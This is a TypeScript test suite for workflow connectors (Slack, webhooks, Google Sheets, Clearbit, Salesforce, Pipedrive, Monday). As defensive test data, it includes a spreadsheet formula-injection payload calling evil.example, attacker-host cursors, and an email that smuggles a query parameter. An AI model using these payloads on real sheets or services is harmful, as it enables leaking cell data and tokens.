/**
 * Every action against its stand-in: what works, what is refused, what fails and works later.
 */
import {
  type ActionError,
  canBeRetried,
  clearbit,
  crm,
  escapeSlack,
  type FlatRecord,
  flattenEvent,
  googleSheets,
  isActionError,
  jsonPages,
  mergeLead,
  slack,
  webhook,
} from '@heap-edge/workflows'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import {
  type Clearbit,
  type Google,
  type Monday,
  type Pipedrive,
  type Receiver,
  type Salesforce,
  shown,
  type Slack,
  type Source,
  type StandIn,
  startClearbit,
  startGoogle,
  startMonday,
  startPipedrive,
  startReceiver,
  startSalesforce,
  startSlack,
  startSource,
} from './index.ts'

/** The error of an action. */
async function failing(action: Promise<unknown>): Promise<ActionError> {
  const error: unknown = await action.then(
    () => undefined,
    (error: unknown) => error,
  )
  if (!isActionError(error)) throw new Error(`no ActionError but ${String(error)}`)
  return error
}

async function all(reader: AsyncIterable<FlatRecord[]>): Promise<FlatRecord[]> {
  const records: FlatRecord[] = []
  for await (const page of reader) records.push(...page)
  return records
}

/** What every action does where the other side fails, redirects, hangs up or does not answer. */
function itFails(get: () => StandIn, act: (options?: { timeout?: number; signal?: AbortSignal }) => Promise<unknown>) {
  it('may be retried after 429, which states when, 503 and a lost connection, and then works', async () => {
    get().failNext(1, 429, { 'Retry-After': '7' })
    expect(await failing(act())).toMatchObject({ status: 429, retryable: true, retryAfterMs: 7000 })
    get().failNext(1, 503)
    expect(await failing(act())).toMatchObject({ status: 503, retryable: true, retryAfterMs: undefined })
    get().failNext(1, 0)
    expect(await failing(act())).toMatchObject({ status: undefined, retryable: true })
    await act()
  })

  it('follows no redirect, and may not be retried after 403', async () => {
    get().failNext(1, 302, { Location: 'https://elsewhere.example/' })
    expect(await failing(act())).toMatchObject({ status: 302 })
    get().failNext(1, 403)
    expect((await failing(act())).status).toBe(403)
  })

  it('ends with the signal', async () => {
    const before = get().requests.length
    await expect(act({ signal: AbortSignal.abort(new Error('stopped')) })).rejects.toThrow('stopped')
    expect(get().requests).toHaveLength(before)
  })
}

describe('slack', () => {
  let service: Slack
  beforeAll(async () => {
    service = await startSlack()
  })
  afterAll(() => service.close())
  const post = (options: object = {}) => slack({ webhookUrl: service.webhookUrl, text: 'Hello', ...options })

  it('posts a text and blocks', async () => {
    const blocks = [{ type: 'section', text: { type: 'mrkdwn', text: 'Hello' } }]
    await post({ text: escapeSlack('<!channel> & co'), blocks })
    expect(service.messages).toEqual([{ text: '&lt;!channel&gt; &amp; co', blocks }])
  })

  itFails(() => service, post)

  it('says what Slack says, and never the address', async () => {
    const gone = await failing(slack({ webhookUrl: `${service.url}/services/T00000000/B1/other`, text: 'Hello' }))
    expect(gone).toMatchObject({ message: 'slack: Slack answered 404: no_service', retryable: false })
    service.failNext(1, 500, {}, `no such hook: ${service.webhookUrl}, ${new URL(service.webhookUrl).pathname}`)
    expect((await failing(post())).message).not.toContain('secretsecret')
    expect(await failing(post({ blocks: [{ type: 'nonsense' }] }))).toMatchObject({
      message: 'slack: Slack answered 400: invalid_blocks',
    })
  })

  it('takes no other 200 for one of Slack', async () => {
    service.failNext(1, 200, {}, '<html>Sign in</html>')
    expect(await failing(post())).toMatchObject({ status: 200, retryable: false })
  })

  it('is refused where it says too much at once', async () => {
    const busy = await startSlack({ perMinute: 1 })
    await slack({ webhookUrl: busy.webhookUrl, text: 'one' })
    const error = await failing(slack({ webhookUrl: busy.webhookUrl, text: 'two' }))
    expect(error).toMatchObject({ status: 429, retryAfterMs: 30_000 })
    await busy.close()
  })
})

describe('webhook', () => {
  let service: Receiver
  beforeAll(async () => {
    service = await startReceiver()
  })
  afterAll(() => service.close())
  const send = (options: object = {}) =>
    webhook({ url: service.url, secret: service.secret, id: 'lead:1', payload: { type: 'lead' }, ...options })

  it('is signed so that the receiver takes it, and once', async () => {
    await send()
    service.loseNext(1)
    expect((await failing(send({ payload: 'not again' }))).retryable).toBe(true)
    await send()
    await send({ id: 'lead:2', payload: '{"raw":"ü"}' })
    expect([...service.received]).toEqual([
      ['lead:1', { type: 'lead' }],
      ['lead:2', { raw: 'ü' }],
    ])
  })

  itFails(() => service, send)

  it('is refused with another secret, or where it is old', async () => {
    const error = await failing(send({ secret: `whsec_${btoa('another secret of some 32 bytes.')}` }))
    expect(error).toMatchObject({ status: 401, retryable: true })
    expect(await failing(send({ timestamp: new Date(Date.now() - 600_000) }))).toMatchObject({ status: 401 })
  })

  it('may not be retried after 410', async () => {
    service.failNext(1, 410)
    expect((await failing(send())).retryable).toBe(false)
  })
})

describe('googleSheets.append', () => {
  let now = Date.parse('2026-01-01T00:00:00Z')
  let service: Google
  let serviceAccount: ReturnType<Google['createAccount']>
  let ids = 0
  beforeAll(async () => {
    service = await startGoogle({ now: () => now, perMinute: 300 })
    serviceAccount = service.createAccount()
  })
  afterAll(() => service.close())

  /** A sheet of its own, and what is needed to append to it. */
  function sheet(rows: string[][], title = "Jon's leads") {
    const spreadsheetId = `1AbC-${ids++}`
    const worksheet = service.createSpreadsheet(spreadsheetId, title, rows, serviceAccount.client_email)
    const settings = { serviceAccount, spreadsheetId, worksheet: title, baseUrl: service.url, now: () => now }
    return {
      worksheet,
      rows: () => shown(worksheet),
      append: (row: googleSheets.AppendOptions['row'], options: object = {}) =>
        googleSheets.append({ ...settings, row, ...options }),
    }
  }

  it('appends under the headers, and new ones to the right of all', async () => {
    const { append, rows } = sheet([
      ['city', 'country'],
      ['Iola', 'United States'],
    ])
    expect(await append({ country: 'Switzerland', plan: 'free', city: 'Bern' })).toEqual({
      appended: 1,
      skipped: 0,
      added: ['plan'],
      range: "'Jon''s leads'!A3:C3",
    })
    await append([{ seats: 3 }, { plan: 'pro', active: true, at: new Date(0) }])
    expect(rows()).toEqual([
      ['city', 'country', 'plan', 'seats', 'active', 'at'],
      ['Iola', 'United States'],
      ['Bern', 'Switzerland', 'free'],
      ['', '', '', '3', '', ''],
      ['', '', 'pro', '', 'TRUE', '1970-01-01 00:00:00'],
    ])
  })

  it('begins an empty sheet, and one without any rows', async () => {
    const { append, rows } = sheet([], 'Q3')
    await append({ city: 'Bern' })
    await append({ city: 'Iola' })
    expect(rows()).toEqual([['city'], ['Bern'], ['Iola']])
  })

  it('keeps to the table with the headers, whatever else the sheet has', async () => {
    const { append, rows } = sheet([['city', 'time'], ['', '12:00'], [], ['', 'Total'], ['', '', 'a note']])
    await append({ city: 'Bern', time: '13:00' })
    expect(rows()[2]).toEqual(['Bern', '13:00'])
    expect(rows()[4]).toEqual(['', 'Total'])
  })

  it('makes no formula and no other number of what others sent, neither in a cell nor in a header', async () => {
    const { append, worksheet } = sheet([['name']])
    const evil = {
      name: '=IMPORTXML("https://evil.example/?"&A1)',
      '=1+1': '+1 (813) 473-3644',
      minus: '-1',
      quoted: "'tis",
      zip: '02138',
      order: '1234567890123456789',
    }
    await append(evil)
    expect(worksheet.cells).toEqual([
      [{ text: 'name' }, { text: '=1+1' }, { text: 'minus' }, { text: 'quoted' }, { text: 'zip' }, { text: 'order' }],
      [
        { text: evil.name },
        { text: evil['=1+1'] },
        { number: -1 },
        { text: evil.quoted },
        { text: evil.zip },
        { text: evil.order },
      ],
    ])
  })

  it('leaves out what stands there already, so that a repeat after a lost answer is harmless', async () => {
    const { append, rows } = sheet([['city']])
    const row = { id: '00123', city: 'Bern' }
    const unique = { unique: 'id' }
    await append({ id: '1', city: 'Iola' }, unique)
    service.loseNext(3)
    for (let n = 0; n < 3; n++) expect((await failing(append(row, unique))).retryable).toBe(true)
    await append(row, unique)
    expect(await append([row, row, { id: '1' }], unique)).toEqual({ appended: 0, skipped: 3, added: [] })
    expect(rows()).toEqual([
      ['city', 'id'],
      ['Iola', '1'],
      ['Bern', '00123'],
    ])
  })

  it('makes the grid wider where the columns need it', async () => {
    const { append, worksheet } = sheet([Array.from({ length: 26 }, (_, n) => `c${n}`)])
    await append({ one: 1, two: 2 })
    expect(worksheet.columnCount).toBe(28)
    const error = await failing(append({ c0: 1, more: 1 }, { maxColumns: 28 }))
    expect(error).toMatchObject({ retryable: false, message: expect.stringContaining('29 columns') as string })
  })

  it('appends nothing where somebody else takes the new column at the same time', async () => {
    const { append, rows, worksheet } = sheet([['city']])
    const meanwhile = async (url: string, init: RequestInit) => {
      const response = await fetch(url, init)
      if (init.method === 'PUT') worksheet.cells[0]?.splice(1, 1, { text: 'other' })
      return response
    }
    expect((await failing(append({ city: 'Bern', mine: 1 }, { fetch: meanwhile }))).retryable).toBe(true)
    await append({ city: 'Bern', mine: 1 })
    expect(rows()).toEqual([
      ['city', 'other', 'mine'],
      ['Bern', '', '1'],
    ])
  })

  it('refuses more than Google recommends for one request', async () => {
    const { append, rows } = sheet([['text']])
    const error = await failing(append(Array.from({ length: 50 }, () => ({ text: 'x'.repeat(50_000) }))))
    expect(error).toMatchObject({
      retryable: false,
      message: expect.stringContaining('append fewer at once') as string,
    })
    expect(rows()).toEqual([['text']])
  })

  it('refuses a header with a hole in it, next to which Google would find two tables', async () => {
    const { append } = sheet([['city', '', 'time']])
    expect(await failing(append({ city: 'Bern' }))).toMatchObject({
      message: 'googleSheets.append: the header of column B is empty: give it a name',
      retryable: false,
    })
  })

  it('uses a token for its life, and gets another one in its last minute', async () => {
    const { append } = sheet([['city']])
    const asked = () => service.requests.filter(({ path }) => path === '/token').length
    await append({ city: 'Bern' })
    const before = asked()
    now += 3_500_000
    await append({ city: 'Bern' })
    expect(asked()).toBe(before)
    now += 60_000
    await append({ city: 'Bern' })
    expect(asked()).toBe(before + 1)
  })

  it('forgets a token that was revoked, so that a retry works', async () => {
    const { append } = sheet([['city']])
    await append({ city: 'Bern' })
    service.tokens.revokeAll()
    expect(await failing(append({ city: 'Bern' }))).toMatchObject({ status: 401, retryable: true })
    await append({ city: 'Bern' })
    service.tokens.revokeAll()
    await failing(append({ city: 'Bern' }))
    service.failNext(1, 200, {}, { access_token: 'forged', expires_in: 3600 })
    expect(await failing(append({ city: 'Bern' }))).toMatchObject({ status: 401, retryable: false })
  })

  it('says why Google says no', async () => {
    const { append } = sheet([['city']])
    const refused = async (options: object) => {
      const { message, status, retryable } = await failing(append({ city: 'Bern' }, options))
      expect(retryable).toBe(false)
      return `${status} ${message.replace(/^googleSheets.append: /, '')}`
    }
    expect(await refused({ spreadsheetId: 'nowhere' })).toMatch(/^404 Google Sheets answered 404: Requested entity/)
    expect(await refused({ worksheet: 'Other' })).toMatch(/^400 .*Unable to parse range: 'Other'!1:1/)
    const stranger = { ...service.createAccount('stranger@example.com'), private_key: serviceAccount.private_key }
    expect(await refused({ serviceAccount: stranger })).toMatch(/^400 Google's token endpoint .*Invalid JWT Signature/)
    expect(await refused({ serviceAccount: service.createAccount('b@example.com') })).toMatch(/^403 .*permission/)
    const late = { serviceAccount: service.createAccount('c@example.com'), now: () => now - 7_200_000 }
    expect(await refused(late)).toMatch(/^400 .*short-lived token/)
  })

  it('is refused where it writes more than Google takes', async () => {
    const busy = await startGoogle({ perMinute: 2 })
    const account = busy.createAccount()
    busy.createSpreadsheet('id', 'A1', [['city']], account.client_email)
    const settings = {
      serviceAccount: JSON.stringify(account),
      spreadsheetId: 'id',
      worksheet: 'A1',
      baseUrl: busy.url,
    }
    for (let n = 0; n < 2; n++) await googleSheets.append({ ...settings, row: { city: 'Bern' } })
    expect(await failing(googleSheets.append({ ...settings, row: { city: 'Bern' } }))).toMatchObject({ status: 429 })
    await busy.close()
  })

  const once = sheetLater()
  itFails(
    () => service,
    (options) => once().append({ city: 'Bern' }, options),
  )

  function sheetLater() {
    let made: ReturnType<typeof sheet> | undefined
    return () => (made ??= sheet([['city']]))
  }
})

describe('clearbit.combined', () => {
  const email = 'andrew@clearbit.com'
  const answer = { survey_id: 'NewSurvey1234567890', age: 48, email, suggestions: '', favoriteShow: 'Arcane' }
  let service: Clearbit
  beforeAll(async () => {
    service = await startClearbit()
  })
  afterAll(() => service.close())
  afterEach(() => service.known.clear())
  const look = (options: object = {}) =>
    clearbit.combined({ apiKey: service.apiKey, baseUrl: service.url, email, ...options })

  it('gives what Clearbit knows, once Clearbit has found it', async () => {
    const person = { id: 'p', name: { fullName: 'Andrew O’Neal' }, bio: null }
    service.known.set(email, { person, company: { name: 'Clearbit', tags: ['B2B', 'SAAS'] }, pending: 1 })
    expect(await look()).toEqual({ status: 'pending' })
    const found = await look()
    expect(mergeLead(answer, found)).toEqual({
      identity: email,
      properties: {
        survey_id: 'NewSurvey1234567890',
        age: 48,
        email,
        favoriteShow: 'Arcane',
        'person.id': 'p',
        'person.name.fullName': 'Andrew O’Neal',
        'company.name': 'Clearbit',
        'company.tags': ['B2B', 'SAAS'],
      },
    })
  })

  it('takes an address that is unknown or none for an answer, not for an error', async () => {
    expect(await look()).toEqual({ status: 'unknown' })
    expect(await look({ email: 'a@b' })).toEqual({ status: 'invalid' })
    const before = service.requests.length
    expect(await look({ email: 'nobody' })).toEqual({ status: 'invalid' })
    expect(service.requests).toHaveLength(before)
  })

  it('does not escape into another parameter', async () => {
    await look({ email: 'a&key=b#c@example.com' })
    expect(service.requests.at(-1)?.query.get('email')).toBe('a&key=b#c@example.com')
  })

  it('polls until Clearbit knows, or gives up', async () => {
    const slept: number[] = []
    const sleep = async (ms: number) => void slept.push(ms)
    const options = { apiKey: service.apiKey, baseUrl: service.url, email, sleep }
    service.known.set(email, { person: null, company: { name: 'Clearbit' }, pending: 3 })
    expect(await clearbit.poll({ ...options, times: 2 })).toEqual({ status: 'pending' })
    expect(await clearbit.poll(options)).toMatchObject({ status: 'found', person: null })
    expect(slept).toEqual([60_000, 60_000])
  })

  it('says what is wrong with the key, and not the key', async () => {
    const error = await failing(look({ apiKey: 'sk_wrong' }))
    expect(error).toMatchObject({ status: 401, retryable: false })
    expect(error.message).toBe('clearbit.combined: Clearbit answered 401: Invalid API key provided.')
  })

  itFails(() => service, look)
})

describe('crm.salesforce', () => {
  let service: Salesforce
  beforeAll(async () => {
    service = await startSalesforce()
    const accounts = Array.from({ length: 4500 }, (_, n) => ({
      Id: `001${n}`,
      Name: `Account ${n}`,
      Owner: { Name: 'Ann' },
      Phone: null,
    }))
    service.objects.set('Account', accounts)
  })
  afterAll(() => service.close())
  const reader = (options: object = {}) =>
    crm.salesforce({
      instanceUrl: service.url,
      accessToken: '00Dxx!session',
      soql: 'SELECT Id, Name, Owner.Name, Phone FROM Account',
      ...options,
    })

  it('pages through to the end', async () => {
    const records = await all(reader())
    expect(records).toHaveLength(4500)
    expect(records[4499]).toEqual({ Id: '0014499', Name: 'Account 4499', 'Owner.Name': 'Ann' })
    expect(service.requests).toHaveLength(3)
  })

  it('goes on from a cursor', async () => {
    const { records, next } = await reader().readPage()
    const rest: FlatRecord[] = []
    for await (const page of reader().pages(next)) rest.push(...page)
    expect(records.length + rest.length).toBe(4500)
    expect(rest[0]).toMatchObject({ Id: '0012000' })
  })

  it('sends its token nowhere else, whatever the cursor says', async () => {
    for (const cursor of [
      'https://evil.example/',
      '//evil.example/services/data/v66.0/query/1',
      '/services/data/v66.0/query/../x',
    ]) {
      await expect(reader().readPage(cursor)).rejects.toThrow('cursor must be one of this reader')
    }
  })

  it('says what is wrong with the query and the cursor, for good', async () => {
    expect(await failing(reader({ soql: 'SELECT FROM' }).readPage())).toMatchObject({ status: 400, retryable: false })
    expect((await failing(reader({ soql: 'SELECT Nope FROM Account' }).readPage())).message).toContain(
      "No such column 'Nope'",
    )
    const { next } = await reader().readPage()
    service.locators.clear()
    expect((await failing(reader().readPage(next))).message).toContain('invalid query locator')
  })

  it('may be retried after 401 where the token is asked for each time', async () => {
    expect(await failing(reader({ accessToken: 'old' }).readPage())).toMatchObject({ status: 401, retryable: false })
    const tokens = ['old', '00Dxx!session']
    const renewed = reader({ accessToken: async () => tokens.shift() ?? '' })
    expect(await failing(renewed.readPage())).toMatchObject({ status: 401, retryable: true })
    expect((await renewed.readPage()).records).toHaveLength(2000)
  })

  it('may be retried where the requests of the day are used up', async () => {
    service.failNext(1, 403, {}, [{ errorCode: 'REQUEST_LIMIT_EXCEEDED', message: 'TotalRequests Limit exceeded.' }])
    expect(await failing(reader().readPage())).toMatchObject({ status: 403, retryable: true })
  })

  it('takes no answer without records for the end', async () => {
    for (const body of [{}, [], { records: null, done: true }, { records: {}, done: true }]) {
      service.failNext(1, 200, {}, body)
      expect(await failing(all(reader()))).toMatchObject({
        message: 'crm.salesforce: Salesforce answered 200: no list of records',
        retryable: false,
      })
    }
    service.failNext(1, 200, {}, { records: [{ Id: '1' }] })
    expect((await failing(all(reader()))).message).toContain('no next page that is known')
    service.failNext(1, 200, {}, { records: [], done: true })
    expect(await all(reader())).toEqual([])
  })

  it('ends where the pages do not', async () => {
    const error = await failing(all(reader({ maxPages: 2 })))
    expect(error).toMatchObject({ retryable: false, message: 'crm.salesforce: there are more than 2 pages' })
    const back = { records: [{ Id: '1' }], done: false, nextRecordsUrl: '/services/data/v66.0/query/1-2' }
    service.failNext(2, 200, {}, back)
    expect((await failing(all(reader()))).message).toBe('crm.salesforce: a page points back')
  })

  itFails(
    () => service,
    (options) => reader(options).readPage(),
  )
})

describe('crm.pipedrive', () => {
  let service: Pipedrive
  beforeAll(async () => {
    service = await startPipedrive({ perWindow: 1000 })
    for (let id = 1; id <= 1200; id++) {
      const update_time = id > 1100 ? '2026-02-01T00:00:00Z' : '2026-01-01T00:00:00Z'
      service.organizations.push({
        id,
        name: `Org ${id}`,
        update_time,
        address: { locality: 'Iola', route: null },
        custom_fields: { abc: { value: 7, currency: 'EUR' } },
      })
    }
  })
  afterAll(() => service.close())
  const reader = (options: object = {}) =>
    crm.pipedrive({ apiToken: service.apiToken, baseUrl: service.url, ...options })

  it('pages through to the end, flat', async () => {
    const records = await all(reader())
    expect(records).toHaveLength(1200)
    expect(records[0]).toEqual({
      id: 1,
      name: 'Org 1',
      update_time: '2026-01-01T00:00:00Z',
      'address.locality': 'Iola',
      'custom_fields.abc.value': 7,
      'custom_fields.abc.currency': 'EUR',
    })
    expect(service.requests).toHaveLength(3)
  })

  it('reads what was changed since, and goes on from a cursor', async () => {
    const changed = reader({ updatedSince: new Date('2026-01-15T00:00:00Z'), pageSize: 60 })
    const first = await changed.readPage()
    const second = await changed.readPage(first.next)
    expect([first.records.length, second.records.length, second.next]).toEqual([60, 40, undefined])
    expect(await failing(reader().readPage('no cursor'))).toMatchObject({ status: 400, retryable: false })
  })

  it('takes no answer without organizations for the end, but for one that says so', async () => {
    for (const body of [{}, { data: null }, { success: true }, { success: true, data: {} }]) {
      service.failNext(1, 200, {}, body)
      expect(await failing(all(reader()))).toMatchObject({
        message: 'crm.pipedrive: Pipedrive answered 200: no list of records',
        retryable: false,
      })
    }
    service.failNext(1, 200, {}, { success: false, data: [], error: 'Scope and URL mismatch' })
    expect(await failing(all(reader()))).toMatchObject({
      message: 'crm.pipedrive: Pipedrive answered 200: Scope and URL mismatch',
      retryable: false,
    })
    service.failNext(1, 200, {}, { success: true, data: null, additional_data: { next_cursor: null } })
    expect(await all(reader())).toEqual([])
  })

  it('waits for the end of the window where it asks too often', async () => {
    const busy = await startPipedrive({ perWindow: 1, now: () => 0 })
    const hasty = crm.pipedrive({ apiToken: busy.apiToken, baseUrl: busy.url })
    await hasty.readPage()
    expect(await failing(hasty.readPage())).toMatchObject({ status: 429, retryAfterMs: 2000 })
    await busy.close()
  })

  it('says what is wrong with the token, and not the token', async () => {
    const error = await failing(reader({ apiToken: 'wrong' }).readPage())
    expect(error).toMatchObject({ status: 401, message: 'crm.pipedrive: Pipedrive answered 401: unauthorized access' })
  })

  itFails(
    () => service,
    (options) => reader(options).readPage(),
  )
})

describe('crm.monday', () => {
  let now = Date.parse('2026-01-01T00:00:00Z')
  let service: Monday
  beforeAll(async () => {
    service = await startMonday({ now: () => now })
    const items = Array.from({ length: 250 }, (_, n) => ({
      id: String(n),
      name: `Item ${n}`,
      values: { Status: 'Customer', Notes: '', Mirror: null },
    }))
    service.boards.set('1234567890', items)
  })
  afterAll(() => service.close())
  const reader = (options: object = {}) =>
    crm.monday({ apiToken: service.apiToken, boardId: 1234567890, baseUrl: service.url, ...options })

  it('pages through to the end, each column by its title', async () => {
    const records = await all(reader())
    expect(records).toHaveLength(250)
    expect(records[249]).toEqual({
      id: '249',
      name: 'Item 249',
      updated_at: '2026-01-01T00:00:00Z',
      Status: 'Customer',
    })
    expect(service.requests).toHaveLength(3)
  })

  it('goes on from a cursor for an hour', async () => {
    const { next } = await reader().readPage()
    now += 3_599_000
    expect((await reader().readPage(next)).records).toHaveLength(100)
    now += 1000
    expect(await failing(reader().readPage(next))).toMatchObject({ status: 200, retryable: false })
  })

  it('may be retried where the complexity is used up, which comes with 200', async () => {
    const { budget } = service
    service.budget = 10
    expect(await failing(reader().readPage())).toMatchObject({ status: 200, retryable: true, retryAfterMs: 7000 })
    service.budget = budget
    const former = { error_code: 'ComplexityException', status_code: 429, errors: ['Complexity budget exhausted'] }
    service.failNext(1, 200, {}, former)
    expect(await failing(reader().readPage())).toMatchObject({ retryable: true })
  })

  it('takes no answer without items for the end', async () => {
    const { next } = await reader().readPage()
    service.failNext(1, 200, {}, {})
    expect(await failing(reader().readPage())).toMatchObject({ status: 200, retryable: false })
    service.failNext(1, 200, {}, { data: { next_items_page: {} } })
    expect((await failing(reader().readPage(next))).message).toContain('answered without items')
  })

  it('takes a part for none, and a board that is not there for an error', async () => {
    service.failNext(1, 200, {}, { data: { boards: [{ items_page: { items: [] } }] }, errors: [{ message: 'partly' }] })
    expect(await failing(reader().readPage())).toMatchObject({
      retryable: false,
      message: expect.stringContaining('partly') as string,
    })
    expect((await failing(reader({ boardId: '1' }).readPage())).message).toBe(
      'crm.monday: the token can see no such board',
    )
    expect(await failing(reader({ apiToken: 'wrong' }).readPage())).toMatchObject({ status: 401, retryable: false })
  })

  itFails(
    () => service,
    (options) => reader(options).readPage(),
  )
})

describe('jsonPages', () => {
  let service: Source
  beforeAll(async () => {
    service = await startSource({ pageSize: 100 })
    for (let n = 0; n < 250; n++) service.records.push({ identity: `u${n}`, plan: { name: 'pro' }, phone: '' })
  })
  afterAll(() => service.close())
  const reader = (options: object = {}) => jsonPages({ url: service.usersUrl, token: service.token, ...options })

  it('pages through to the end, flat', async () => {
    const records = await all(reader())
    expect(records).toHaveLength(250)
    expect(records[249]).toEqual({ identity: 'u249', 'plan.name': 'pro' })
    expect(service.requests.map(({ query }) => query.get('after'))).toEqual([null, '100', '200'])
  })

  it('goes on from a cursor', async () => {
    const { next } = await reader().readPage()
    expect((await reader().readPage(next)).records[0]).toMatchObject({ identity: 'u100' })
  })

  it('sends its token nowhere else, whatever the source or the cursor says', async () => {
    await expect(reader().readPage('https://evil.example/')).rejects.toThrow('cursor must be one of this reader')
    await expect(reader().readPage('/users?after=100')).rejects.toThrow('cursor must be one of this reader')
    for (const next of ['https://evil.example/', '//evil.example/users', 'http://[']) {
      service.failNext(1, 200, {}, { records: [], next })
      expect(await failing(reader().readPage())).toMatchObject({
        message: 'jsonPages: The source answered 200: the next page is on another origin',
        retryable: false,
      })
    }
  })

  it('takes nothing for records that is none', async () => {
    service.failNext(1, 200, {}, { users: [] })
    expect(await failing(reader().readPage())).toMatchObject({
      message: 'jsonPages: The source answered 200: no list of records',
      retryable: false,
    })
    service.failNext(1, 200, {}, { records: [], next: 2 })
    expect((await failing(all(reader()))).message).toContain('the next page is no address')
    service.failNext(1, 200, {}, 'Good morning')
    expect(await failing(reader().readPage())).toMatchObject({ retryable: true })
  })

  it('ends where the pages do not', async () => {
    expect((await failing(all(reader({ maxPages: 2 })))).message).toBe('jsonPages: there are more than 2 pages')
    service.failNext(2, 200, {}, { records: [], next: service.usersUrl })
    expect((await failing(all(reader()))).message).toBe('jsonPages: a page points back')
  })

  it('says what is wrong with the token, and not the token', async () => {
    service.failNext(1, 401, {}, { error: `not ${service.token}` })
    const error = await failing(reader().readPage())
    expect(error).toMatchObject({ status: 401, message: 'jsonPages: The source answered 401: not ***' })
  })

  itFails(
    () => service,
    (options) => reader(options).readPage(),
  )
})

it('brings a form to a sheet: W1', async () => {
  const google = await startGoogle()
  const serviceAccount = google.createAccount()
  const worksheet = google.createSpreadsheet('id', 'Searches', [['city', 'country']], serviceAccount.client_email)
  const row = flattenEvent({
    event: 'Submit search form',
    city: 'Iola',
    region: 'Montana',
    country: '',
    user: { identity: '' },
  })
  await googleSheets.append({ serviceAccount, spreadsheetId: 'id', worksheet: 'Searches', baseUrl: google.url, row })
  expect(shown(worksheet)).toEqual([
    ['city', 'country', 'event', 'region'],
    ['Iola', '', 'Submit search form', 'Montana'],
  ])
  await google.close()
})

it('gives up after its time, and may be retried', async () => {
  const never = (_: string, { signal }: RequestInit) =>
    new Promise<Response>((_resolve, reject) => {
      signal?.addEventListener('abort', () => reject(signal.reason as Error))
    })
  const error = await failing(
    slack({ webhookUrl: 'https://slack.test/secret', text: 'Hello', timeout: 20, fetch: never }),
  )
  expect(error.message).toBe('slack: Slack did not answer in 20 ms')
  expect(canBeRetried(error)).toBe(true)
})
